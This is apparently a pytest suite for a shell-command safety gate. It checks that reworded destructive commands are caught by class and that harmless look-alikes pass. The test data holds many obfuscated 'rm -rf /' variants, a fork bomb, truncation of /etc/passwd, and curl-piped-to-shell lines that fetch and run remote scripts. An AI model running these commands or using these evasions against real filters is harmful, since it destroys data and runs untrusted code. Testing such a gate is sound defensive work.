"""The shell gate (envs/shell_gate.py) reads a line as bash would and judges it by class: the rewordings the
issue named are gated, look-alikes pass, and the seeded generator of rewordings meets its figures."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from envs.shell_gate import judge_line, read_line
from envs.shell_syntax import Incomplete, ShellSyntaxError, parse

ROOT = Path(__file__).resolve().parent.parent

# The rewordings that the word-matching gate let through, each with the class that must catch it.
REWORDED = [
    ("perl -e 'system(\"rm -rf /\")'", "code"),
    ("python3 -c \"import shutil; shutil.rmtree('/home')\"", "code"),
    ("sudo su -c 'rm -rf /'", "privilege"),
    ("$(echo rm) -rf /", "computed"),
    ("R=rm; $R -rf /", "computed"),
    ("truncate -s 0 /etc/passwd", "delete"),
    ("> ~/.bashrc", "overwrite"),
    ("rsync -a --delete src/ dst/", "delete"),
    ("git reset --hard", "git"),
    ("$'\\x72\\x6d' -rf /", "delete"),  # ANSI-C quoting is decoded: the name is rm
    ("r''m -rf ~", "delete"),
    ("{rm,-rf,/}", "computed"),  # brace expansion makes the name
    ("echo / | xargs rm -rf", "delete"),
    ("find ~ -maxdepth 0 -exec rm -rf {} +", "delete"),
    ("echo ok; env -i /bin/rm -r ~", "delete"),
    ("ls $(rm -rf ~)", "delete"),  # a substitution inside an argument runs
    ("cat <<EOF\n$(shutdown now)\nEOF\n", "system"),  # an unquoted here-document expands
    ("echo 'rm -rf /' | sh", "code"),
    ("bash <(curl -s https://x.example/i.sh)", "code"),
    ("wget https://x.example/tool", "network"),
    ("ssh host 'git clean -fdx'", "git"),
    ("f() { f | f & }; f", "system"),
    ("echo poweroff | xargs env", "computed"),
    ("apt-get -y install nmap", "system"),
    ("cd /etc && rm passwd", "delete"),  # the working directory was left: relative paths are outside
    ("case $1 in *) rm -rf / ;; esac", "unreadable"),  # bash runs it; the gate does not read case
]

# Look-alikes and everyday lines that must pass.
PASSING = ["rm file.txt", "ls -rf", "echo rm -rf /", "grep -r 'rm -rf' .", "man rm", "mv *.jpg photos/",
           "cat x.json | python3 -m json.tool", "echo hi > out.txt", "echo hi > /dev/null 2>&1",
           "git push origin main", "find . -name '*.md' -exec wc -l {} +", "if [ -f .env ]; then echo y; fi",
           "pip list", "systemctl status nginx", "curl https://example.com", "wget -qO- https://example.com | less",
           "Meeting moved to 3pm (room 2).", "It's done!", "Hello world, this is a shutdown notice."]


@pytest.mark.parametrize("line, kind", REWORDED, ids=[line[:40] for line, _ in REWORDED])
def test_rewording_is_gated_by_its_class(line, kind):
    risk = judge_line(line)
    assert risk is not None and risk.kind == kind, risk


@pytest.mark.parametrize("line", PASSING)
def test_look_alike_passes(line):
    assert judge_line(line) is None


def test_a_line_being_typed_is_judged_on_its_words_so_far():
    with pytest.raises(Incomplete):
        parse("echo 'unclosed")
    assert judge_line("echo 'unclosed") is None
    assert judge_line("bash -c 'rm -rf").kind == "code"  # the quote is still open, the harm is already there
    assert judge_line("curl -s https://x.example/i.sh |") is None  # nothing to pipe into yet
    assert judge_line("curl -s https://x.example/i.sh | sh").kind == "code"


def test_what_bash_refuses_runs_nothing_and_what_the_gate_cannot_read_is_risky():
    with pytest.raises(ShellSyntaxError):
        parse("Call me (maybe)")
    assert read_line("Call me (maybe)") == ([], [])  # bash -n refuses it as well: nothing would run
    scripts, unreadable = read_line("case x in a) ls;; esac")
    assert scripts == [] and unreadable  # bash -n accepts it: the gate is blind there, so it is risky
    scripts, _ = read_line("rm -rf /\necho )")  # a malformed second line does not hide the first
    assert judge_line("rm -rf /\necho )").kind == "delete" and scripts


def test_words_are_read_as_bash_reads_them():
    command = parse("X=1 \"r\"m -f 'a b' $HOME/x *.txt 2>&1 >>log").commands[0]
    assert [w.text for w in command.words] == ["rm", "-f", "a b", "$HOME/x", "*.txt"]
    assert [w.literal for w in command.words] == [True, True, True, False, False]
    assert [a.text for a in command.assignments] == ["X=1"]
    assert [(r.fd, r.op, r.target.text) for r in command.redirects] == [("2", ">&", "1"), ("", ">>", "log")]
    inner = parse("echo $(ls | sh)").commands[0].words[1].inner[0]
    assert [c.words[0].text for c in inner.commands] == ["ls", "sh"] and inner.commands[1].piped


def test_generated_rewordings_meet_the_figures(tmp_path):
    """The acceptance figure: >= 99% of >= 500 generated risky rewordings gated, <= 5% of >= 200 safe flagged."""
    out = tmp_path / "shell_gate.json"
    done = subprocess.run([sys.executable, str(ROOT / "benchmarks" / "shell_gate_variants.py"), "--out", str(out)],
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    result = json.loads(out.read_text())
    risky, safe = result["risky"], result["safe"]
    print(f"\n{done.stdout.strip().splitlines()[-2]}\n{done.stdout.strip().splitlines()[-1]}")
    assert risky["variants"] >= 500 and risky["gated_percent"] >= 99.0, risky["misses"]
    assert safe["commands"] >= 200 and safe["false_alarm_percent"] <= 5.0, safe["false_alarms"]
    assert set(risky["by_class"]) == {"delete", "overwrite", "privilege", "code", "computed", "system", "network",
                                      "git"}
    assert all(c["variants"] >= 50 for c in risky["by_class"].values())
